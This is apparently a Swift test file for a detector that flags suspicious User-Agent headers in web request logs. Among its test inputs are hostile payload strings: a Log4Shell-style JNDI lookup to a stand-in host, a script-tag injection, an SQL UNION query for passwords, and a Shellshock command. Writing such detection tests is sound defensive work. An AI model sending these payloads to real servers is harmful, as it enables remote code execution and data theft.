import ReqwatchCore
import ReqwatchDetect
import ReqwatchTestSupport
import Testing

@Suite struct SuspiciousUserAgentTests {
    func reasons(_ lines: [String], _ config: DetectConfiguration = DetectConfiguration()) throws -> [String] {
        try only(DetectorHarness.run(lines: lines, configuration: config), .suspiciousUserAgent).compactMap {
            if case .string(let s)? = $0.evidence.first(where: { $0.0 == "reason" })?.1 { return s }
            return nil
        }
    }

    @Test(arguments: [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "scanner"),
        ("Mozilla/5.0 zgrab/0.x", "scanner"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner"),
        ("${jndi:ldap://evil.example/a}", "injection-payload"),
        ("Mozilla/5.0<script>alert(1)</script>", "injection-payload"),
        ("x' UNION SELECT password FROM users--", "injection-payload"),
        ("() { :; }; /bin/bash -c 'id'", "injection-payload"),
        ("\"\"", "empty"),
    ])
    func oneAlertPerReason(ua: String, reason: String) throws {
        let lines = (0..<5).map { "+\($0) 203.0.113.80 - GET /products/\($0) 200 \(ua)" }
        #expect(try reasons(lines) == [reason])
    }

    @Test(arguments: [
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", "chrome"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36 Edg/124.0", "edge"),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1", "safari"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0", "firefox"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "googlebot"),
        ("okhttp/4.12.0", "okhttp"),
        ("ShopApp/5112 CFNetwork/1410.1 Darwin/22.6.0", "shopapp"),
        ("python-requests/2.31.0", "python-requests"),
        ("Go-http-client/1.1", "go-http-client"),
    ])
    func agentFamilies(ua: String, family: String) {
        #expect(AgentFamily.name(ua) == family)
    }

    /// With a baseline's families, a client using a family never seen before is reported once it has sent
    /// `unfamiliarMinRequests` requests; known families, and a client below the count, are not.
    @Test func unfamiliarFamilyAgainstABaseline() throws {
        var c = DetectConfiguration()
        c.knownAgentFamilies = ["chrome", "firefox", "okhttp", "googlebot"]
        var lines: [String] = []
        for k in 0..<12 {
            lines.append("+\(k) 203.0.113.81 - GET /api/items/\(k) 200 HarvestKit/0.9 (+https://example.net)")
            lines.append("+\(k) 192.0.2.8 - GET /api/items/\(k) 200 okhttp/4.12.0")
            lines.append("+\(k) 192.0.2.9 - GET /api/items/\(k) 200 Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0")
        }
        for k in 0..<5 { lines.append("+\(k) 198.51.100.7 - GET /api/items/\(k) 200 Midori/11") }
        #expect(try reasons(lines, c) == ["unfamiliar"])
        let alert = try #require(only(DetectorHarness.run(lines: lines, configuration: c), .suspiciousUserAgent).first)
        #expect(alert.evidence.first { $0.0 == "family" }?.1 == .string("harvestkit"))
        #expect(alert.sourceIP == "203.0.113.81")
        // Without a baseline nothing is unfamiliar.
        #expect(try reasons(lines).isEmpty)
    }

    @Test func malformedControlBytesAndLength() throws {
        var reqs = [TestRequest(time: DetectorHarness.t0, ip: "203.0.113.81", path: "/", userAgent: "Mozilla\u{01}/5.0")]
        reqs.append(TestRequest(time: DetectorHarness.t0 + 1, ip: "203.0.113.82", path: "/", userAgent: String(repeating: "A", count: 2000)))
        // two addresses with malformed agents: one campaign incident listing both
        let alerts = only(try DetectorHarness.run(reqs, lifecycle: true), .suspiciousUserAgent)
        #expect(alerts.map(\.incidentState) == ["opened", "closed"])
        #expect(alerts.allSatisfy { $0.evidence.first?.1 == .string("malformed") })
        #expect(alerts.last?.addresses == ["203.0.113.81", "203.0.113.82"])
    }

    @Test func missingUserAgentOnlyWhenTheInputLogsThem() throws {
        // an input that never logs user agents (common log format): silent
        let none = (0..<50).map { "+\($0) 192.0.2.\($0 % 5 + 1) - GET /a 200 -" }
        #expect(try reasons(none).isEmpty)
        // an input that logs them: a missing one stands out
        var mixed = (0..<30).map { "+\($0) 192.0.2.1 - GET /a 200 Mozilla/5.0" }
        mixed.append("+40 203.0.113.90 - GET /a 200 -")
        mixed.append("+41 203.0.113.90 - GET /b 200 -")
        #expect(try reasons(mixed).isEmpty)  // two requests: below missing-min-requests
        mixed.append("+42 203.0.113.90 - GET /c 200 -")
        mixed.append("+43 203.0.113.90 - GET /d 200 -")
        #expect(try reasons(mixed).isEmpty)  // a script whose requests succeed is deliberately not alerted
        mixed += (44..<47).map { "+\($0) 203.0.113.91 - GET /admin/\($0) 404 -" }
        #expect(try reasons(mixed) == ["missing"])  // one that keeps failing is
    }

    @Test func rotationFires() throws {
        let lines = (0..<20).map { "+\($0 * 3) 203.0.113.91 - GET /p/\($0) 200 Mozilla/5.0-Variant-\($0)" }
        #expect(try reasons(lines) == ["rotation"])
    }

    @Test func scriptedClientOnBrowserPage() throws {
        var c = DetectConfiguration()
        c.inventory = try RouteInventory.parse(text: petSpec, origin: "spec.yaml")
        let lines = ["+0 203.0.113.92 - GET /v1/home 200 curl/8.5.0", "+1 203.0.113.93 - GET /v1/users/me 200 curl/8.5.0"]
        #expect(try reasons(lines, c) == ["scripted-client-on-page"])
    }

    @Test func browsersSDKsCrawlersAndMonitorsAreQuiet() throws {
        let agents = [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
            "okhttp/4.12.0", "MyApp/3.1 CFNetwork/1496.0.7 Darwin/23.5.0", "Dart/3.3 (dart:io)", "Alamofire/5.9.0",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Pingdom.com_bot_version_1.4",
            "ELB-HealthChecker/2.0", "kube-probe/1.29", "StatusCake",
        ]
        var lines: [String] = []
        for (k, ua) in agents.enumerated() {
            for j in 0..<3 { lines.append("+\(k * 10 + j) 192.0.2.\(k + 1) - GET /products/\(j) 200 \(ua)") }
        }
        #expect(try DetectorHarness.run(lines: lines).isEmpty)
    }

    @Test func allowlistedAgentIsSuppressed() throws {
        var c = DetectConfiguration()
        c.allowUserAgents = ["nuclei"]
        let lines = (0..<5).map { "+\($0) 203.0.113.80 - GET /x/\($0) 200 Nuclei-internal-scan" }
        #expect(try reasons(lines, c).isEmpty)
    }
}
